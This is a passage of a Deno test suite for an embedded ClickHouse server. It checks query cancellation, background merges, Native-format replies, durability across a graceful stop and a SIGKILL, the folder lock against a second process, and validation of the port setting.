  assert.equal(await text("SELECT count() FROM many"), "240\n");
});

Deno.test("embedded clickhouse: a long query delays neither a ping nor an insert, and can be killed", async () => {
  await run("CREATE TABLE meanwhile (a UInt8) ENGINE = MergeTree ORDER BY a");
  let ended = false;
  const long = text("SELECT 'endless', count() FROM system.numbers").finally(() => ended = true);
  const running = "SELECT count() FROM system.processes WHERE query LIKE 'SELECT \\'endless%'";
  await until(running, (count) => count === "1");
  assert.equal(await (await fetch(`${server.url}/ping`)).text(), "Ok.\n");
  await run("INSERT INTO meanwhile VALUES (1)");
  assert.equal(await text("SELECT count() FROM meanwhile"), "1\n");
  assert.equal(ended, false);
  await text("KILL QUERY WHERE query LIKE 'SELECT \\'endless%' SYNC");
  assert.match(await long, /^Code: 394\. .*QUERY_WAS_CANCELLED/);
});

Deno.test("embedded clickhouse: background merges keep the number of parts down", async () => {
  await run("CREATE TABLE merged (a UInt32) ENGINE = MergeTree ORDER BY a");
  for (let a = 0; a < 60; a++) await text(`INSERT INTO merged VALUES (${a})`);
  await until(
    "SELECT count() FROM system.parts WHERE database = 't' AND table = 'merged' AND active",
    (parts) => parts !== "" && Number(parts) <= 20,
  );
  assert.equal(await text("SELECT count() FROM merged"), "60\n");
});

Deno.test("embedded clickhouse: clickhouse-go's first question is answered in the plain Native format to who speaks no other", async () => {
  const question = "SELECT displayName(), version(), revision(), timezone()";
  const answer = await (await post(question, "default_format=Native")).bytes();
  const own = await (await post(`${question} FORMAT Native`, "")).bytes();
  // The same as the engine's own answer but for the revision, four bytes behind its type.
  const at = Buffer.from(own).indexOf("UInt32") + "UInt32".length;
  own.fill(0, at, at + 4);
  assert.deepEqual(answer, own);
});

Deno.test("embedded clickhouse: a stop finishes the running statement, and the data are there after a restart", async () => {
  await withOwnServer(async (first, folder) => {
    const say = (server: Server, body: string) =>
      fetch(server.url, { method: "POST", headers: server.headers, body }).then((r) => r.text());
    assert.equal(await say(first, "CREATE DATABASE keep"), "");
    assert.equal(await say(first, "CREATE TABLE keep.rows (a UInt8) ENGINE = MergeTree ORDER BY a"), "");
    const slow = say(first, "INSERT INTO keep.rows SELECT 1 + sleep(1)");
    while (await say(first, "SELECT count() FROM system.processes WHERE query LIKE 'INSERT%'") !== "1\n");
    await first.stop();
    assert.equal(await slow, "");
    assert.equal((await first.exited).code, 0);

    const second = await start(folder);
    try {
      assert.equal(await say(second, "SELECT a FROM keep.rows"), "1\n");
      assert.equal(await say(second, "SELECT engine FROM system.databases WHERE name = 'keep'"), "Atomic\n");
    } finally {
      await second.stop();
    }
  });
});

Deno.test("embedded clickhouse: after kill -9 amid inserts the folder opens again and holds every acknowledged row once", async () => {
  await withOwnServer(async (first, folder) => {
    const say = (server: Server, body: string) =>
      fetch(server.url, { method: "POST", headers: server.headers, body }).then((r) => r.text());
    assert.equal(await say(first, "CREATE DATABASE keep"), "");
    assert.equal(await say(first, "CREATE TABLE keep.rows (a UInt32) ENGINE = MergeTree ORDER BY a"), "");
    let acknowledged = 0;
    const inserting = (async () => {
      while (await say(first, `INSERT INTO keep.rows VALUES (${acknowledged})`) === "") {
        if (++acknowledged === 50) first.kill();
      }
    })();
    await assert.rejects(inserting);
    assert.equal((await first.exited).signal, "SIGKILL");

    const second = await start(folder);
    try {
      assert.equal(
        await say(second, `SELECT count(), uniqExact(a) FROM keep.rows WHERE a < ${acknowledged}`),
        `${acknowledged}\t${acknowledged}\n`,
      );
    } finally {
      await second.stop();
    }
  });
});

Deno.test("embedded clickhouse: a second process on the same folder is turned away with one line", async () => {
  const folder = fileURLToPath(new URL("../../embedded/clickhouse/", import.meta.url));
  const output = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", `--config=${folder}deno.json`, `${folder}server.ts`],
    env: { TAPEHOUSE_HOME: home, EMBEDDED_CLICKHOUSE_PORT: "0" },
  }).output();
  assert.equal(output.code, 1);
  const lines = new TextDecoder().decode(output.stderr).trim().split("\n");
  assert.equal(lines.length, 1, lines.join("\n"));
  assert.equal(
    JSON.parse(lines[0] ?? "").message,
    `${home}/clickhouse is in use by process ${server.pid}: stop that one first, or set TAPEHOUSE_HOME to another folder`,
  );
});

Deno.test("embedded clickhouse: a wrong port is named with what is allowed, exit code 2", async () => {
  const folder = fileURLToPath(new URL("../../embedded/clickhouse/", import.meta.url));
  const output = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", `--config=${folder}deno.json`, `${folder}server.ts`],
    env: { TAPEHOUSE_HOME: home, EMBEDDED_CLICKHOUSE_PORT: "80a" },
  }).output();
  assert.equal(output.code, 2);
  assert.match(
    new TextDecoder().decode(output.stderr),
    /EMBEDDED_CLICKHOUSE_PORT=80a: expected a port, 0 to 65535/,
  );
});

async function withOwnServer(use: (server: Server, folder: string) => Promise<void>): Promise<void> {
  const folder = await Deno.makeTempDir({ prefix: "clickhouse_" });
  const own = await start(folder);
  try {
    await use(own, folder);
  } finally {
    await own.stop();
    await Deno.remove(folder, { recursive: true });
  }
}
